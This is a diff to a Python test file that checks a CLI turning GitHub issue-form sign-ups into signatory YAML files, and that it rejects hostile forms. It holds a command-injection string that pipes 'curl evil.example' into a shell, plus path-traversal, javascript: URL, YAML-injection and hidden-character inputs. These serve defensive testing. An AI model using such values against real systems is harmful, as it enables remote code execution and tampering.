@@ -16,7 +16,7 @@ from builders import (
     write_signatory,
 )
 from press.cli import main
-from recorded import changed
+from recorded import changed, payload
 
 PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
 SHELL = '"; curl evil.example | sh #'
@@ -432,6 +432,87 @@ def test_a_form_is_written_to_a_file_and_its_branch_is_named(tmp_path, capsys):
     event.write_bytes(changed(ISSUE, issue__labels=[]))
     assert main(["respond", "sign-up", "--event", str(event), "--to", str(to)]) == 2
     assert capsys.readouterr().err.startswith("error: event-label: ")
+
+
+@pytest.fixture
+def signed_up(tmp_path, capsys):
+    """The two commands that the workflow runs for a form: signed_up(body) → exit code, answer, new files."""
+    root = write_charter(tmp_path)
+    release_draft(root, first=True)
+    write_signatory(root, make_signatory("mole-club"))
+    event, form = tmp_path / "event.json", tmp_path / "form.md"
+
+    def answered(body):
+        before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
+        event.write_bytes(changed(ISSUE, issue__body=body))
+        assert main(["respond", "sign-up", "--event", str(event), "--to", str(form)]) == 0
+        assert capsys.readouterr().out == "sign-up/31\n"
+        how = ("--from", str(form), "--as", "issue", "--format", "markdown")
+        code = main(["--source", str(root), "sign", *how])
+        said = capsys.readouterr()
+        assert said.err == ""
+        assert all(path.read_bytes() == data for path, data in before.items() if path not in (event, form))
+        new = {path for path in tmp_path.rglob("*") if path.is_file()} - {*before, event, form}
+        return code, said.out, {path.relative_to(root).as_posix(): path.read_text() for path in new}
+
+    return answered
+
+
+FORM = payload(ISSUE)["issue"]["body"]
+
+
+def test_a_form_becomes_one_new_file(signed_up):
+    """And a kind answer that says what stands in it."""
+    code, said, new = signed_up(FORM.replace("\n", "\r\n"))
+    assert (code, list(new)) == (0, ["signatories/quay-club.yml"])
+    assert "name: Quay Club\n" in new["signatories/quay-club.yml"]
+    assert said.startswith("Thank you for signing! An entry for **Quay Club** was made of your form:\n")
+
+
+def answer(label, value):
+    """The recorded form with another answer."""
+    return re.sub(rf"(?<=### {label}\n\n).*", lambda _: value, FORM)
+
+
+def test_a_path_for_a_name_leads_nowhere(signed_up):
+    """The file is named by letters and figures alone, in the one folder that there is for it."""
+    code, _, new = signed_up(answer("Name of your organisation", "../../.github/workflows/x"))
+    assert (code, list(new)) == (0, ["signatories/github-workflows-x.yml"])
+
+
+BAD_FORMS = {
+    "empty": ("", "There is nothing in it"),
+    "another text": ("Hello @everyone, closes #1", "None of the questions stands in it"),
+    "no name": (answer("Name of your organisation", "_No response_"), "Name of your organisation"),
+    "a kind of their own": (answer("Kind of organisation", "pirates"), "Kind of organisation"),
+    "a site that runs": (answer("Your website", "javascript:alert(1)"), "Your website"),
+    "a site with a password": (answer("Your website", "https://a:b@x.example/"), "Your website"),
+    "a version that nobody made": (answer("Version you sign", "9.9.9"), "Version you sign"),
+    "a path for a version": (answer("Version you sign", "../1.0.0"), "Version you sign"),
+    "a day that is none": (answer("Day on which it was agreed", "2024-02-31"), "Day on which"),
+    "a day to come": (answer("Day on which it was agreed", "2999-01-01"), "Day on which"),
+    "two days in one": (answer("Day on which it was agreed", "03/04/2026"), "Day on which"),
+    "a letter's address": (answer("Office that signs", "chair@quay-club.example"), "Office that signs"),
+    "somebody else": (answer("Name of your organisation", "Mole club"), "Name of your organisation"),
+    "one question twice": (FORM + "\n### Your website\n\nhttps://evil.example/\n", "Your website"),
+    "a question of their own": (FORM + "\n### withdrawn\n\n2026-01-01\n", "withdrawn"),
+    "other words in yaml": (
+        answer("In your own words", "x\n\nwithdrawn: {date: 2026-01-01}\x07"),
+        "own words",
+    ),
+    "a name that hides": (answer("Name of your organisation", "Quay\u202eClub"), "Name of your organisation"),
+    "a long name": (answer("Name of your organisation", "x" * 5000), "Name of your organisation"),
+}
+
+
+@pytest.mark.parametrize("case", BAD_FORMS)
+def test_a_hostile_form_is_answered_by_name_and_writes_nothing(signed_up, case):
+    """Whoever filled it in by mistake learns what to mend, and no word of it acts."""
+    body, label = BAD_FORMS[case]
+    code, said, new = signed_up(body)
+    assert (code, new) == (1, {})
+    assert label in said
+    assert not re.search(r"(?<!\\)://(?!quay|x)|@\w|(?<!\w)#\d|<img|<script", said)
 
 
 def test_the_weekly_issue_tells_how_the_register_stands(tmp_path, capsys):
